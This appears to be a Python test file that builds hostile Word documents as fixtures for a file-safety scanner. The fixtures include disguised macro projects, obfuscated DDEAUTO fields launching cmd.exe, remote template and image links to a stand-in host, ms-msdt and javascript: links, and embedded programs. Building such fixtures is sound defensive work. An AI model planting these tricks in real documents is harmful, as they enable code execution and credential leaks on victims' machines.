"""Word files that run, fetch or carry something (faults.md S2, S3, S4)."""

from tests.hostile.bases import (
    BODY,
    BODY_RELS,
    REL,
    SETTINGS_RELS,
    TYPES,
    book,
    field,
    into_body,
    letter,
    related,
    relations,
    repack,
    swap,
    typed,
)
from tests.hostile.catalogue import Family

WORD = Family("word")
_DOCX = "laporan.docx"
_OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600)
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@WORD.trick("H10", "surat.docm")
def macros_under_their_own_name():
    return _with_macros()


@WORD.trick("H10", _DOCX)
def macros_renamed_to_docx():
    return _with_macros()


def _with_macros() -> bytes:
    main = swap(_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    return repack(
        letter(),
        change={
            TYPES: lambda types: typed(
                "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"
            )(main(types)),
            BODY_RELS: related(
                "", "vbaProject.bin",
                full="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            ),
        },
        add={"word/vbaProject.bin": _OLE},
    )  # fmt: skip


@WORD.trick("H10", _DOCX)
def macros_that_only_the_relationship_names():
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return repack(
        letter(),
        change={BODY_RELS: related("", "gambar.dat", full=kind)},
        add={"word/gambar.dat": bytes(600)},
    )


@WORD.trick("H10", _DOCX)
def macros_that_only_the_content_type_names():
    return repack(
        letter(),
        change={TYPES: typed("word/a.dat", "application/vnd.ms-office.vbaProject")},
        add={"word/a.dat": b"Attribut"},
    )


@WORD.trick("H10", _DOCX)
def macros_by_a_default_content_type():
    line = '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'
    return repack(
        letter(),
        change={TYPES: swap("<Override", f"{line}<Override")},
        add={"word/a.dat": b"Attribut"},
    )


@WORD.trick("H10", _DOCX)
def a_main_type_with_macros_but_none_inside():
    return repack(
        letter(),
        change={TYPES: swap(_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")},
    )


@WORD.trick("H10", _DOCX)
def keys_and_menus_of_its_own():
    kind = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
    menu = b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'
    return repack(
        letter(),
        change={"_rels/.rels": related("", "customUI/customUI.xml", full=kind)},
        add={"customUI/customUI.xml": menu},
    )


WORD.each(
    "H11",
    _DOCX,
    [
        ("dde", lambda: into_body(field('DDE excel "c:\\\\a.xlsx" r1'))),
        ("ddeauto", lambda: into_body(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
        ("ddeauto in small letters", lambda: into_body(field(' ddeAuto c:\\\\cmd.exe "/k" '))),
        ("dde cut into runs", lambda: into_body(field("D", "DEA", "UTO c:\\\\cmd.exe x"))),
        (
            "dde in character references",
            lambda: into_body(field("&#68;&#x44;&#69;AUTO c:\\\\cmd.exe x")),
        ),
        (
            "dde in a simple field",
            lambda: into_body('<w:p><w:fldSimple w:instr=" DDEAUTO cmd /k "/></w:p>'),
        ),
        (
            "dde in a simple field in small letters",
            lambda: into_body('<w:p><w:fldSimple w:instr="&#x64;deauto cmd /k "/></w:p>'),
        ),
        ("dde without a field around it", lambda: into_body(
            "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>")),
        ("dde that another field spells", lambda: into_body(_spelt())),
        ("dde behind a page number", lambda: into_body(field("PAGE") + field("DDEAUTO a b"))),
        ("dde in deleted text", lambda: into_body(field("DDEAUTO a b").replace(
            "instrText", "delInstrText"))),
        ("dde in a field that never ends", lambda: into_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
            "<w:instrText>DDEAUTO a b</w:instrText></w:r></w:p>")),
        ("dde in the header", lambda: repack(
            letter(),
            change={
                TYPES: typed("word/header9.xml", _MAIN.replace("document.main", "header")),
                BODY_RELS: related("header", "header9.xml"),
            },
            add={"word/header9.xml": _header(field("DDEAUTO a b"))},
        )),
        ("dde under another prefix", lambda: repack(letter(), change={
            BODY: lambda body: body.replace(b"w:", b"q:").replace(b"xmlns:w=", b"xmlns:q=").replace(
                b"<q:body>", b"<q:body>" + field("DDEAUTO a b").replace("w:", "q:").encode(), 1)})),
    ],
)  # fmt: skip


def _spelt() -> str:
    inner = field("QUOTE 68 68 69 65 85 84 79")[5:-6]
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    rest = '<w:r><w:instrText> c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f"<w:p>{begin}{inner}{rest}{end}</w:p>"


def _header(content: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:hdr xmlns:w="{space}">{content}</w:hdr>'.encode()


WORD.each(
    "H12",
    _DOCX,
    [
        (f"field {command[:28].lower()}", lambda command=command: into_body(field(command)))
        for command in (
            'INCLUDETEXT "C:\\\\rahasia.docx"',
            'INCLUDEPICTURE "http://192.0.2.1/a.png" \\\\d',
            'IMPORT "http://192.0.2.1/a.png"',
            "LINK Excel.Sheet.12 \\\\\\\\192.0.2.1\\\\a.xlsx",
            'DATABASE \\\\d "\\\\\\\\192.0.2.1\\\\a.mdb"',
            'HYPERLINK "\\\\\\\\192.0.2.1\\\\a.docx"',
            'HYPERLINK "ms-msdt:/id x"',
            'RD "\\\\\\\\192.0.2.1\\\\a.docx"',
        )
    ],
)

WORD.each(
    "H12",
    _DOCX,
    [
        (
            f"{kind} from {target.partition(':')[0]}",
            lambda kind=kind, target=target: repack(
                letter(), change={BODY_RELS: related(kind, target, external=True)}
            ),
        )
        for kind, target in (
            ("image", "http://192.0.2.1/a.png"),
            ("image", "file:///C:/Users/a.png"),
            ("image", "\\\\192.0.2.1\\share\\a.png"),
            ("image", "file://192.0.2.1/share/a.png"),
            ("frame", "http://192.0.2.1/a.html"),
            ("hyperlink", "file://192.0.2.1/share/a.docx"),
            ("hyperlink", "\\\\192.0.2.1\\share\\a.docx"),
            ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
            ("hyperlink", "search-ms:query=a&amp;crumb=location:\\\\192.0.2.1"),
            ("hyperlink", "javascript:alert(1)"),
            ("hyperlink", "java&#10;script:alert(1)"),
            ("video", "http://192.0.2.1/a.mp4"),
            ("footer", "http://192.0.2.1/f.xml"),
        )
    ],
)


@WORD.trick("H13", _DOCX)
def an_outside_program_s_link():
    return repack(
        letter(),
        change={BODY_RELS: related("oleObject", "mhtml:http://192.0.2.1/a!x-usc:http://192.0.2.1/a",
                                   external=True)},
    )  # fmt: skip


@WORD.trick("H12", _DOCX)
def an_outside_page_that_calls_itself_inside():
    return repack(letter(), change={BODY_RELS: related("image", "http://192.0.2.1/a.png")})


@WORD.trick("H12", _DOCX)
def external_in_capitals():
    line = f'<Relationship Id="rIdX" Type="{REL}/image" Target="http://a/" TargetMode="EXTERNAL"/>'
    return repack(letter(), change={BODY_RELS: swap("</Relationships>", f"{line}</Relationships>")})


WORD.each(
    "H12",
    _DOCX,
    [
        (
            f"template at {target}",
            lambda target=target: repack(
                letter(), add={SETTINGS_RELS: relations("attachedTemplate", target, external=True)}
            ),
        )
        for target in (
            "http://192.0.2.1/a.dotm",
            "https://192.0.2.1/a.dotm",
            "file://192.0.2.1/a/b.dotm",
            "\\\\192.0.2.1\\a\\b.dotm",
            "%5C%5C192.0.2.1%5Ca%5Cb.dotm",
        )
    ],
)


@WORD.trick("H12", _DOCX)
def a_table_to_merge_from_elsewhere():
    source = relations("mailMergeSource", "file:///C:/a.xlsx", external=True)
    return repack(letter(), add={SETTINGS_RELS: source})


@WORD.trick("H12", _DOCX)
def a_picture_of_vml_from_elsewhere():
    picture = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="a">'
        '<v:imagedata src="http://192.0.2.1/a.png"/></v:shape></w:pict></w:r></w:p>'
    )
    return into_body(picture)


@WORD.trick("H12", _DOCX)
def relations_of_the_footer_alone():
    return repack(
        letter(),
        add={"word/_rels/footer1.xml.rels": relations("image", "http://192.0.2.1/", external=True)},
    )


WORD.each(
    "H13",
    _DOCX,
    [
        ("an ole object", lambda: _object("oleObject", "embeddings/oleObject1.bin", _OLE)),
        ("an ole object under another name", lambda: _object("image", "media/a.png2", _OLE)),
        ("an ole object without any link to it", lambda: repack(letter(), add={"word/a": _OLE})),
        ("a workbook inside", lambda: _object("package", "embeddings/a.xlsx", book())),
        ("a program inside", lambda: repack(
            letter(), add={"word/media/a.bin": b"MZ\x90\x00" + bytes(200)})),
        ("a script inside", lambda: repack(letter(), add={"word/a.bin": b"#!/bin/sh\nrm x\n"})),
        ("a pdf inside", lambda: repack(letter(), add={"word/media/a.bin": b"%PDF-1.7\n"})),
        ("a shortcut inside", lambda: repack(
            letter(), add={"word/a.bin": b"L\0\0\0\x01\x14\x02\0" + bytes(90)})),
        ("a page of the web inside", lambda: _object("aFChunk", "a.html", b"<script>1</script>")),
        ("a page of the web that the body names", lambda: into_body(
            f'<w:altChunk xmlns:r="{REL}" r:id="a"/>')),
        ("a part of another document", lambda: repack(
            letter(), change={BODY_RELS: related("subDocument", "b.docx", external=True)})),
        ("a chart whose figures carry macros", lambda: _chart(_bad_book())),
        ("a chart whose figures are no workbook", lambda: _chart(letter())),
        ("a chart whose figures hold a chart", lambda: _chart(_book_with_book())),
    ],
)  # fmt: skip


def _object(kind: str, part: str, content: bytes) -> bytes:
    return repack(letter(), change={BODY_RELS: related(kind, part)}, add={f"word/{part}": content})


def _chart(figures: bytes) -> bytes:
    return repack(
        letter(),
        change={BODY_RELS: related("chart", "charts/chart1.xml")},
        add={
            "word/charts/chart1.xml": b"<c/>",
            "word/charts/_rels/chart1.xml.rels": relations("package", "../embeddings/a.xlsx"),
            "word/embeddings/a.xlsx": figures,
        },
    )


def _bad_book() -> bytes:
    return repack(book(), add={"xl/vbaProject.bin": _OLE})


def _book_with_book() -> bytes:
    return repack(
        book(),
        add={
            "xl/charts/chart1.xml": b"<c/>",
            "xl/charts/_rels/chart1.xml.rels": relations("package", "../embeddings/a.xlsx"),
            "xl/embeddings/a.xlsx": book(),
        },
    )


WORD.each(
    "H14",
    _DOCX,
    [
        ("an activex control", lambda: _object("control", "activeX/activeX1.xml", b"<ax/>")),
        ("an activex control under another name", lambda: _object("control", "a.xml", b"<ax/>")),
        ("an activex control without any link", lambda: repack(
            letter(), add={"word/activeX/activeX1.bin": bytes(50)})),
        ("a task pane from the web", lambda: repack(
            letter(),
            change={"_rels/.rels": related(
                "", "word/webextensions/taskpanes.xml",
                full="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes")},
            add={"word/webextensions/taskpanes.xml": b"<wetp/>"})),
    ],
)  # fmt: skip
